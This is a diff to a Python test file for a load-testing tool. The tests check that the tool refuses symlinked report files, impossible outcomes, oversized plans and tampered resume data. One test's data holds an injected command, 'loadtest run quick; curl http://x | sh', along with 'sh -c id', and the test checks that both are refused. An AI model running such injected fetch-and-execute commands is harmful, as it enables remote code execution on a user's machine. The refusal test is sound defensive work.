@@ -5,15 +5,16 @@ from __future__ import annotations
 import json
 import os
 import sys
-from collections.abc import Callable
+from collections.abc import Callable, Sequence
 from pathlib import Path
+from types import SimpleNamespace
 from typing import Any
 
 import msgspec
 import pytest
-from builders import loaded, outcome, run
+from builders import LOAD, endpoint, loaded, outcome, plan, run, server
+from client_facts import cold, group, row, warm
 from client_facts import plan as clients_plan
-from client_facts import row
 from client_facts import run as clients_run
 from command_line import Type
 from hostile_folder import whole
@@ -26,9 +27,11 @@ from loadtest.plan import interpreters
 from loadtest.plan.servers import inventory
 from loadtest.plan.servers.inventory import Inventory
 from loadtest.plan.servers.project import Project
+from loadtest.records import clients, privacy
+from loadtest.records.clients import Answer, Interpreter
 from loadtest.records.errors import UserError
-from loadtest.records.measured import Engine, Outcome, Run
-from loadtest.records.planned import Choice, Server
+from loadtest.records.measured import Engine, Histogram, Outcome, Placement, Run, Sent
+from loadtest.records.planned import Cell, Choice, Goal, Load, Server
 from loadtest.records.run_folder import CLIENTS, OUTCOMES, SERVERS, Writer, create, read
 
 pytestmark = pytest.mark.usefixtures("no_addresses")
@@ -132,6 +135,23 @@ def test_nothing_is_written_through_a_link(name: str, folder: Path, tmp_path: Pa
     assert theirs.is_dir() or theirs.read_text() == "kept, and not torn"
 
 
+@pytest.mark.parametrize("name", ["index.html", "report.md", "summary.csv"])
+def test_a_report_is_not_written_through_a_link(
+    name: str, folder: Path, tmp_path: Path, type_: Type
+) -> None:
+    theirs = tmp_path / "theirs"
+    theirs.write_text("kept")
+    append(folder, msgspec.json.encode(outcome(loaded=loaded(2_000), load_s=1.0)))
+    (folder / name).symlink_to(theirs)
+    (folder / f".{name}.part").symlink_to(theirs)
+    done = type_("report", folder)
+    assert done.status == 2
+    assert "it is a link; move what is there, then try again" in done.lines[-1]
+    (folder / name).unlink()
+    assert type_("report", folder).status == 0
+    assert theirs.read_text() == "kept"
+
+
 def test_outcomes_with_a_second_name_are_not_appended_to(folder: Path, tmp_path: Path) -> None:
     (tmp_path / "theirs").write_text("kept")
     (folder / OUTCOMES).hardlink_to(tmp_path / "theirs")
@@ -219,6 +239,10 @@ def test_a_label_that_nobody_can_print_is_refused(field: str, name: str, tmp_pat
         (("command",), "loadtest run quick; curl http://x | sh"),
         (("command",), "sh -c id"),
         (("command",), "loadtest run 'quick"),
+        (("command",), "loadtest run quick --project /tmp/theirs"),
+        (("command",), "loadtest run quick --allow-database=127.0.0.1/app"),
+        (("plan", "cells", 0, "load", "steps"), [0.5] * 51),
+        (("placement",), {"generator": [0] * 5_000, "services": [], "server": []}),
     ],
 )
 def test_what_cannot_have_been_planned_is_refused(
@@ -262,6 +286,114 @@ def test_an_outcome_that_cannot_be_is_left_out(
     assert note.startswith(f"outcomes.jsonl, line 2: {why}, dropped; ")
 
 
+def sent(**changes: int) -> Sent:
+    late = Histogram(values_us=(0,), counts=(100,))
+    return Sent(**{"window_us": 1_000_000, "requests": 100, "missed": 0, "late": late} | changes)  # type: ignore[arg-type]
+
+
+RATED = msgspec.structs.replace(LOAD, rate=100.0)
+SEARCHED = msgspec.structs.replace(LOAD, within=Goal(p99_us=1_000))
+
+
+@pytest.mark.parametrize(
+    ("load", "changes", "why"),
+    [
+        (RATED, {"loaded": loaded(10)}, "at a rate without its schedule"),
+        (LOAD, {"loaded": loaded(10, sent=sent())}, "with one and without a rate"),
+        (LOAD, {"loaded": loaded(10), "tried": SEARCHED}, "of a search that the plan does not"),
+        (SEARCHED, {"loaded": loaded(10)}, "of no load of its search"),
+        (SEARCHED, {"tried": SEARCHED, "round": 101}, "of more tries than a search has"),
+        (RATED, {"loaded": loaded(10, sent=sent(requests=99))}, "more late requests than requests"),
+        (RATED, {"loaded": loaded(10, sent=sent(window_us=1_000_001))}, "goes on beyond its load"),
+    ],
+)
+def test_an_outcome_that_its_plan_cannot_have_is_left_out(
+    load: Load, changes: dict[str, Any], why: str, tmp_path: Path
+) -> None:
+    cell = Cell(server="alpha", endpoint=endpoint(), load=load)
+    folder = create(tmp_path, run(plan(cells=(cell,))))
+    append(folder, msgspec.json.encode(outcome(cell.id, **changes)))
+    stored = read(folder, SERVERS)
+    assert stored.outcomes == ()
+    (note,) = stored.notes
+    assert why in note
+
+
+@pytest.mark.parametrize(
+    ("fact", "why"),
+    [
+        (cold(row(), warm=warm(row()).warm), "of two measures at once"),
+        (warm(row(), cold=cold(row()).cold), "of two measures at once"),
+        (warm(row("httpx"), 0), "of a measure that its row does not have"),
+    ],
+)
+def test_an_outcome_of_a_client_is_of_one_planned_measure(
+    fact: clients.Outcome, why: str, tmp_path: Path
+) -> None:
+    of = clients_plan(
+        [row(), row("httpx", group="cold")], [group(), group("cold", measures=("cold",))]
+    )
+    folder = create(tmp_path, clients_run(of))
+    append(folder, msgspec.json.encode(fact))
+    stored = read(folder, CLIENTS)
+    assert stored.outcomes == ()
+    (note,) = stored.notes
+    assert why in note
+
+
+@pytest.mark.parametrize(
+    ("changes", "why"),
+    [
+        ([{"python": None}], "aiohttp-0 has no python, and no reason to be skipped"),
+        (
+            [{"answer": Answer(body_bytes=99_000_000 + n)} for n in range(11)],
+            "bodies of 1,089,000,055 bytes",
+        ),
+    ],
+)
+def test_rows_that_nobody_could_measure_are_refused(
+    changes: list[dict[str, Any]], why: str, tmp_path: Path
+) -> None:
+    rows = [row(f"aiohttp {at}", **change) for at, change in enumerate(changes)]
+    with pytest.raises(UserError, match=f"cannot be measured: {why}"):
+        create(tmp_path, clients_run(clients_plan(rows)))
+
+
+@pytest.mark.parametrize("of", [{"a": "a"}, {"a": "b", "b": "a"}, {"a": None, "b": "a", "c": "b"}])
+def test_a_duplicate_is_of_what_is_none(of: dict[str, str | None], tmp_path: Path) -> None:
+    servers = [server(name, duplicate_of=other) for name, other in of.items()]
+    with pytest.raises(UserError, match=r"cannot be measured: . is a duplicate of the duplicate"):
+        create(tmp_path, run(plan(servers)))
+
+
+def test_a_file_that_many_name_is_read_for_the_last(folder: Path) -> None:
+    """It was written anew; and a folder could have each of its outcomes take as long."""
+    (folder / "raw" / "x.json").write_text('{"values_us":[1],"counts":[1]}')
+    for number in range(3):
+        append(folder, msgspec.json.encode(outcome(number=number, histogram="raw/x.json")))
+    names = [each.histogram for each in read(folder, SERVERS).outcomes]
+    assert names == [None, None, "raw/x.json"]
+
+
+def test_only_so_many_notes_are_said(folder: Path) -> None:
+    for number in range(150):
+        missing = outcome(number=number, histogram=f"raw/{number}.json")
+        append(folder, msgspec.json.encode(missing))
+    notes = read(folder, SERVERS).notes
+    assert len(notes) == 101
+    assert notes[-1] == "and 50 more that are missing or damaged"
+
+
+def test_a_log_without_an_end_is_read_in_parts(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(privacy, "MOST_LINE_BYTES", 10)
+    monkeypatch.chdir(folder)
+    (folder / "logs" / "x.log").write_bytes(b"0123456789" * 3 + b"\nend")
+    privacy.publish(folder / "logs")
+    assert (folder / "logs" / "x.log").read_bytes() == b"0123456789" * 3 + b"\nend"
+
+
 @pytest.mark.parametrize("lines", [b"{}\n" * 1_000, b"\n" * 1_000])
 def test_what_is_no_outcomes_file_at_all_is_refused(lines: bytes, folder: Path) -> None:
     (folder / OUTCOMES).write_bytes(lines)
@@ -277,6 +409,8 @@ def test_a_run_that_could_not_be_read_back_is_not_begun(tmp_path: Path) -> None:
 
 
 def test_a_run_of_more_lines_than_are_read_is_not_begun(tmp_path: Path) -> None:
+    with pytest.raises(UserError, match="100,000 loads, and a run has 50,000 at most"):
+        create(tmp_path, run(plan(rounds=1_000, turns=100)))
     rows = [row(f"aiohttp {number}") for number in range(30)]
     with pytest.raises(UserError, match="60,000 measurements, and a run has 50,000 at most"):
         create(tmp_path, clients_run(clients_plan(rows, rounds=1_000)))
@@ -349,6 +483,23 @@ def test_an_endpoint_that_one_cell_has_otherwise_is_not_asked(
         check_resumable(msgspec.structs.replace(of, plan=plan), offered, tmp_path)
 
 
+def test_processors_of_a_folder_are_not_pinned_to(offered: Inventory, tmp_path: Path) -> None:
+    placed = Placement(generator=(0,), services=(0,), server=(99_999,))
+    of = msgspec.structs.replace(begun(offered), placement=placed)
+    with pytest.raises(UserError, match="pinned to processors that are not here"):
+        check_resumable(of, offered, tmp_path)
+
+
+def test_no_more_workers_are_started_than_can_be(offered: Inventory, tmp_path: Path) -> None:
+    of = begun(offered)
+    shape = msgspec.structs.replace(of.plan.shape, workers=1_000)
+    of = msgspec.structs.replace(
+        of, plan=msgspec.structs.replace(of.plan, shape=shape, at_once=1_000_000)
+    )
+    with pytest.raises(UserError, match="1000000 servers at the same time.* fewer --workers"):
+        check_resumable(of, offered, tmp_path)
+
+
 def test_an_engine_that_a_folder_names_is_not_asked(
     offered: Inventory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -370,6 +521,9 @@ def test_an_engine_that_a_folder_names_is_not_asked(
     assert of.engine is None
 
 
+CATALOGUE: Any = {"aiohttp": SimpleNamespace(requires=("httpx", "aiohttp"))}
+
+
 def test_no_python_of_a_folder_is_started(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     of = clients_run(clients_plan([row()]))
     theirs = msgspec.structs.replace(of.interpreters["3.11"], path=str(tmp_path / "python"))
@@ -380,15 +534,34 @@ def test_no_python_of_a_folder_is_started(tmp_path: Path, monkeypatch: pytest.Mo
 
     monkeypatch.setattr(interpreters, "look", look)
     with pytest.raises(UserError, match="python is no Python of here"):
-        clients_resume.check(of, {"aiohttp": None}, of.machine)  # type: ignore[dict-item]
+        clients_resume.check(of, CATALOGUE, of.machine)
 
 
-def test_this_python_is_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_this_python_is_looked_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
     of = clients_run(clients_plan([row()]))
     ours = msgspec.structs.replace(of.interpreters["3.11"], path=sys.executable)
-    of = msgspec.structs.replace(of, interpreters={"3.11": ours})
-    monkeypatch.setattr(interpreters, "look", lambda python, names: ours)
-    clients_resume.check(of, {"aiohttp": None}, of.machine)  # type: ignore[dict-item]
+    of = msgspec.structs.replace(of, interpreters={str(at): ours for at in range(1_000)})
+    looked: list[tuple[str, list[str]]] = []
+
+    def look(python: str, names: Sequence[str]) -> Interpreter:
+        looked.append((python, [*names]))
+        return ours
+
+    monkeypatch.setattr(interpreters, "look", look)
+    clients_resume.check(of, CATALOGUE, of.machine)
+    assert looked == [(sys.executable, ["aiohttp", "httpx"])]
+
+
+@pytest.mark.parametrize("name", ["a\0b", "x" * 200_000])
+def test_no_name_of_a_folder_is_typed(name: str) -> None:
+    """A command line ends at a NUL, and has an end."""
+    of = clients_run(clients_plan([row()]))
+    theirs = msgspec.structs.replace(
+        of.interpreters["3.11"], path=sys.executable, versions={name: "1"}
+    )
+    of = msgspec.structs.replace(of, interpreters={"3.11": theirs})
+    with pytest.raises(UserError, match="1 then, missing now"):
+        clients_resume.check(of, CATALOGUE, of.machine)
 
 
 def test_what_was_failed_is_an_outcome(folder: Path) -> None:
